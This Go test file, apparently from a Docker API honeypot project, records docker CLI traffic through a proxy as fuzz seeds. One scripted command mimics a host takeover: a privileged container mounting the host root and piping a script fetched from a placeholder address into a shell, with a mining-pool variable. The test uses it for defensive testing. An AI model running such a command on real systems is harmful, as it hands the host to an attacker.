package dockerapi

import (
	"fmt"
	"os"
	"testing"

	"decnet/internal/testutil"
)

// TestCaptureSeeds rewrites the fuzz seed corpus from the real docker
// client's traffic (DOCKERAPI_CAPTURE=1): a proxy in front of the daemon
// keeps each connection's client bytes.
func TestCaptureSeeds(t *testing.T) {
	if os.Getenv("DOCKERAPI_CAPTURE") == "" {
		t.Skip("set DOCKERAPI_CAPTURE=1 to rewrite testdata/fuzz/FuzzRequests from the docker CLI")
	}
	d := start(t, "127.0.106.20", nil)
	p := testutil.StartProxy(t, "127.0.106.21", d.plain)
	host := "tcp://" + p.Addr
	for _, args := range [][]string{{"version"}, {"ps", "-a"}, {"images"}, {"info"},
		{"run", "-d", "--privileged", "-v", "/:/host", "-e", "POOL=pool.example:3333", "alpine", "sh", "-c", "chroot /host bash -c 'curl -s http://198.51.100.7/m | sh'"},
		{"exec", "webapp", "sh", "-c", "id; uname -a"}, {"pull", "busybox"}, {"logs", "db"}, {"kill", "cache"}, {"rm", "-f", "cache"},
		{"run", "--rm", "alpine", "id"}, {"inspect", "webapp"}, {"network", "ls"}, {"volume", "ls"}} {
		out, err := dockerCLI(t, nil, append([]string{"-H", host}, args...)...)
		t.Logf("%v: %v\n%s", args, err, out)
	}
	for i, b := range p.Flows() {
		testutil.WriteSeed(t, "FuzzRequests", fmt.Sprintf("cli-%02d", i+1), b)
	}
}
